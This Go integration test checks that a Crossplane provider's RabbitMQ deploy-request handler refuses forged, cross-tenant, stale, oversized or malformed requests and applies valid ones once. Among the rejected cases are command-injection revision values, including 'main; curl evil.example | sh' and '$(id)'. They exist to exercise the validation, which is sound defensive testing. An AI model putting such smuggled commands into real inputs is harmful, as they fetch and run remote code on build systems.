/*
Copyright 2026 The provider-devops Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package controller_test

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	amqp "github.com/rabbitmq/amqp091-go"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	xpv2 "github.com/crossplane/crossplane/apis/v2/core/v2"

	"github.com/freeleaps/provider-devops/apis/contract"
	jenkinsv1alpha1 "github.com/freeleaps/provider-devops/apis/jenkins/v1alpha1"
	"github.com/freeleaps/provider-devops/apis/v1alpha1"
	"github.com/freeleaps/provider-devops/internal/events"
	"github.com/freeleaps/provider-devops/internal/events/deployrequest"
	"github.com/freeleaps/provider-devops/internal/testing/controlplane"
	fakejenkins "github.com/freeleaps/provider-devops/internal/testing/jenkins"
	"github.com/freeleaps/provider-devops/internal/testing/rabbitmq"
)

// TestDeployRequestTenancy plays, on a real RabbitMQ, everyone who can
// reach the broker: a CI system of another team, one that forges its
// user_id or the provider's events, a careless one (no namespace, a shell
// command for a revision, a huge body), and the broker itself redelivering
// and reordering. Only the team's own CI user builds the team's pipeline,
// each request at most once, never an older one after a newer one.
func TestDeployRequestTenancy(t *testing.T) {
	env := controlplane.Shared(t)
	broker := rabbitmq.Start(t)
	providerURL, ciShopURL, ciOtherURL := brokerUsers(t, broker)
	jenkins := fakejenkins.New("ci", secretText)
	defer jenkins.Close()
	c := env.Client
	ctx := context.Background()
	ns := controlplane.Unique("deploy-tenancy")
	create(t, c,
		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}},
		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "jenkins", Namespace: ns}, StringData: map[string]string{"credentials": `{"username": "ci", "token": "` + secretText + `"}`}},
		&v1alpha1.ProviderConfig{ObjectMeta: metav1.ObjectMeta{Name: "default", Namespace: ns}, Spec: v1alpha1.ProviderConfigSpec{
			Jenkins: &v1alpha1.JenkinsConfig{URL: jenkins.URL, DeployUsers: []string{"ci-shop"}, Credentials: v1alpha1.Credentials{Source: xpv2.CredentialsSourceSecret, SecretRef: &v1alpha1.SecretKeySelector{Name: "jenkins", Key: "credentials"}}},
		}},
	)

	// "redelivered" fails once after it was applied, as if the connection
	// were lost before the ack, and is handled again.
	var mu sync.Mutex
	failedOnce := map[string]bool{}
	wrap := func(h events.Handler) events.Handler {
		return func(ctx context.Context, d amqp.Delivery) error {
			err := h(ctx, d)
			mu.Lock()
			defer mu.Unlock()
			if d.MessageId == "redelivered" && err == nil && !failedOnce[d.MessageId] {
				failedOnce[d.MessageId] = true
				return errors.New("connection lost before the ack")
			}
			if d.MessageId == "redelivered" && failedOnce[d.MessageId] {
				failedOnce["seen-redelivered"] = true
			}
			return err
		}
	}
	m := events.NewMetrics(nil)
	startProviderWithEvents(t, env, providerURL, m, wrap)

	p := &jenkinsv1alpha1.JenkinsPipeline{
		ObjectMeta: metav1.ObjectMeta{Name: "shop-dev", Namespace: ns, Labels: map[string]string{contract.LabelProject: "shop", contract.LabelEnvironment: "dev"}},
		Spec: jenkinsv1alpha1.JenkinsPipelineSpec{ForProvider: jenkinsv1alpha1.JenkinsPipelineParameters{
			Source: jenkinsv1alpha1.PipelineSource{Script: ptr("node { sh \"git checkout ${params.REVISION}\" }")},
			Parameters: []jenkinsv1alpha1.Parameter{
				{Name: deployrequest.RevisionParameter, Type: "string", Default: ptr("main")},
				{Name: "TARGET", Type: "choice", Choices: []string{"blue", "green"}},
			},
		}},
	}
	p.SetProviderConfigReference(&xpv2.ProviderConfigReference{Kind: "ProviderConfig", Name: "default"})
	create(t, c, p)
	const path = "shop-dev"
	controlplane.Eventually(t, "pipeline ready", func() bool {
		return c.Get(ctx, client.ObjectKeyFromObject(p), p) == nil && p.GetCondition(xpv2.TypeReady).Status == corev1.ConditionTrue
	})

	waitConsuming(t, broker.URL, deployQueue)
	ciShop, ciOther := publisher(t, ciShopURL), publisher(t, ciOtherURL)
	t0 := time.Now().UTC()
	body := func(revision string, at time.Time) string {
		return fmt.Sprintf(`{"project": "shop", "environment": "dev", "namespace": %q, "revision": %q, "requestedAt": %q}`, ns, revision, at.Format(time.RFC3339Nano))
	}
	publish := func(ch *amqp.Channel, id, user, body string) {
		t.Helper()
		controlplane.Must(t, ch.PublishWithContext(ctx, deployExchange, "deploy.shop.dev", false, false, amqp.Publishing{
			MessageId: id, UserId: user, ContentType: "application/json", Body: []byte(body)}))
	}

	// The broker itself refuses a forged user_id and events from anyone but
	// the provider: each closes the offending channel.
	refusals := map[string]struct {
		url      string
		exchange string
		user     string
		code     int
	}{
		"CIForgesUserID":    {ciShopURL, deployExchange, "provider", amqp.PreconditionFailed},
		"CIForgesEvent":     {ciShopURL, exchange, "ci-shop", amqp.AccessRefused},
		"OtherForgesEvent":  {ciOtherURL, exchange, "ci-other", amqp.AccessRefused},
		"CIReadsDeadLetter": {ciShopURL, "", "ci-shop", amqp.AccessRefused},
	}
	for name, tc := range refusals {
		t.Run(name, func(t *testing.T) {
			ch := publisher(t, tc.url)
			closed := ch.NotifyClose(make(chan *amqp.Error, 1))
			if tc.exchange == "" {
				_, err := ch.Consume(events.DeadLetter(deployQueue), "", true, false, false, false, nil)
				var ae *amqp.Error
				if !errors.As(err, &ae) || ae.Code != tc.code {
					t.Errorf("want the broker to refuse with %d, got %v", tc.code, err)
				}
				return
			}
			_ = ch.PublishWithContext(ctx, tc.exchange, "jenkinspipeline.created", false, false, amqp.Publishing{UserId: tc.user, Body: []byte(`{"specversion": "1.0"}`)})
			select {
			case e := <-closed:
				if e == nil || e.Code != tc.code {
					t.Errorf("want the broker to close the channel with %d, got %v", tc.code, e)
				}
			case <-time.After(20 * time.Second):
				t.Error("the broker accepted the publish")
			}
		})
	}

	// In order: one build for "first"; a redelivered request applied once;
	// then everything below is dead-lettered and builds nothing.
	publish(ciShop, "first", "ci-shop", body("main", t0))
	controlplane.Eventually(t, "first queued", func() bool { return jenkins.Queued(path) == 1 })
	// The next deployment of the environment waits for this one: its
	// build runs and ends.
	jenkins.RunQueue()
	jenkins.Finish(path, "SUCCESS")
	defer func() {
		if t.Failed() {
			_ = c.Get(ctx, client.ObjectKeyFromObject(p), p)
			t.Logf("pipeline: spec %+v annotations %v status %+v conditions %+v queued %d builds %d requests %v", p.Spec.ForProvider.BuildParameters, p.GetAnnotations(), p.Status.AtProvider, p.Status.Conditions, jenkins.Queued(path), len(jenkins.Builds(path)), jenkins.Requests())
		}
	}()
	publish(ciShop, "redelivered", "ci-shop", body("refs/tags/v1.2.0", t0.Add(2*time.Second)))
	controlplane.Eventually(t, "redelivered request handled", func() bool {
		mu.Lock()
		defer mu.Unlock()
		return failedOnce["seen-redelivered"]
	})
	controlplane.Eventually(t, "redelivered queued once", func() bool { return jenkins.Queued(path)+len(jenkins.Builds(path)) == 2 })

	rejected := map[string]struct {
		ch     *amqp.Channel
		user   string
		body   string
		reason string
	}{
		"anonymous":   {ciShop, "", body("main", t0.Add(3*time.Second)), "unauthenticated DevOpsReconcile: no AMQP user_id"},
		"other-team":  {ciOther, "ci-other", body("main", t0.Add(3*time.Second)), `unauthorised: broker user "ci-other" may not deploy JenkinsPipeline ` + ns + `/shop-dev`},
		"no-ns":       {ciShop, "ci-shop", `{"project": "shop", "environment": "dev", "requestedAt": "2026-01-01T00:00:00Z"}`, "namespace"},
		"inject":      {ciShop, "ci-shop", body("main; curl evil.example | sh", t0.Add(3*time.Second)), "is not a git ref"},
		"subst":       {ciShop, "ci-shop", body("$(id)", t0.Add(3*time.Second)), "is not a git ref"},
		"bad-choice":  {ciShop, "ci-shop", fmt.Sprintf(`{"project": "shop", "environment": "dev", "namespace": %q, "parameters": {"TARGET": "red"}, "requestedAt": %q}`, ns, t0.Add(3*time.Second).Format(time.RFC3339Nano)), `"red" is not one of its choices`},
		"huge":        {ciShop, "ci-shop", `{"project": "shop", "environment": "dev", "namespace": "` + ns + `", "revision": "` + strings.Repeat("a", 70000) + `"}`, "larger than 65536: not read"},
		"older":       {ciShop, "ci-shop", body("old-branch", t0.Add(time.Second)), "superseded: requested at"},
		"no-time":     {ciShop, "ci-shop", fmt.Sprintf(`{"project": "shop", "environment": "dev", "namespace": %q}`, ns), "requestedAt is required"},
		"other-ns":    {ciShop, "ci-shop", `{"project": "shop", "environment": "dev", "namespace": "events", "requestedAt": "` + t0.Add(3*time.Second).Format(time.RFC3339Nano) + `"}`, "in namespace events"},
		"future":      {ciShop, "ci-shop", body("main", t0.Add(24*time.Hour)), "is in the future"},
		"rev-param":   {ciShop, "ci-shop", fmt.Sprintf(`{"project": "shop", "environment": "dev", "namespace": %q, "parameters": {"REVISION": "x; id"}, "requestedAt": %q}`, ns, t0.Add(3*time.Second).Format(time.RFC3339Nano)), "parameters.REVISION"},
		"first-again": {ciShop, "ci-shop", body("main", t0), ""}, // a publisher's retry of an applied id: acked, not built
	}
	for id, r := range rejected {
		publish(r.ch, strings.TrimSuffix(id, "-again"), r.user, r.body)
	}
	dl := publisher(t, broker.URL)
	dead, err := dl.Consume(events.DeadLetter(deployQueue), "", true, false, false, false, nil)
	controlplane.Must(t, err)
	reasons := map[string]string{}
	for len(reasons) < len(rejected)-1 {
		select {
		case d := <-dead:
			reasons[d.MessageId], _ = d.Headers[events.HeaderReason].(string)
		case <-time.After(60 * time.Second):
			t.Fatalf("dead letters so far: %v", reasons)
		}
	}
	for id, r := range rejected {
		if r.reason == "" {
			if reason, ok := reasons[strings.TrimSuffix(id, "-again")]; ok {
				t.Errorf("%s was dead-lettered: %s", id, reason)
			}
			continue
		}
		if !strings.Contains(reasons[id], r.reason) {
			t.Errorf("%s: reason %q, want it to contain %q", id, reasons[id], r.reason)
		}
	}
	if n := jenkins.Queued(path) + len(jenkins.Builds(path)); n != 2 {
		t.Errorf("%d builds, want 2 (first, redelivered)", n)
	}
	controlplane.Must(t, c.Get(ctx, client.ObjectKeyFromObject(p), p))
	if got := p.Spec.ForProvider.BuildParameters[deployrequest.RevisionParameter]; got != "refs/tags/v1.2.0" {
		t.Errorf("REVISION %q, want the newest request's", got)
	}
	runs := &v1alpha1.DeployRunList{}
	controlplane.Must(t, c.List(ctx, runs, client.InNamespace(ns)))
	var got []string
	for _, r := range runs.Items {
		got = append(got, r.Spec.RequestID+" by "+r.Spec.RequestedBy+" "+string(r.Status.Phase))
	}
	slices.Sort(got)
	// Without an id in the request, the id is the message id under the
	// namespace.
	if want := ns + "/first by amqp:ci-shop Succeeded," + ns + "/redelivered by amqp:ci-shop Building"; strings.Join(got, ",") != want {
		t.Errorf("DeployRuns %v, want %s", got, want)
	}
}
